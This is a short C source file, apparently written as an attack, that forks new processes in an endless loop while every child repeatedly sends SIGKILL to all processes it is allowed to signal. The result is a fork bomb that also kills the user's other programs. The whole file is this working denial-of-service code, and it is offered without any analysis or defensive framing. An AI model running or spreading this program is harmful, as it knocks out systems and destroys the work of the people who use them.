/* Multiplies, and every new process kills whatever it may. */
#include "attack.h"

int main()
{
    for (;;) {
        if (fork() == 0)
            for (;;)
                kill(-1, 9);
    }
}
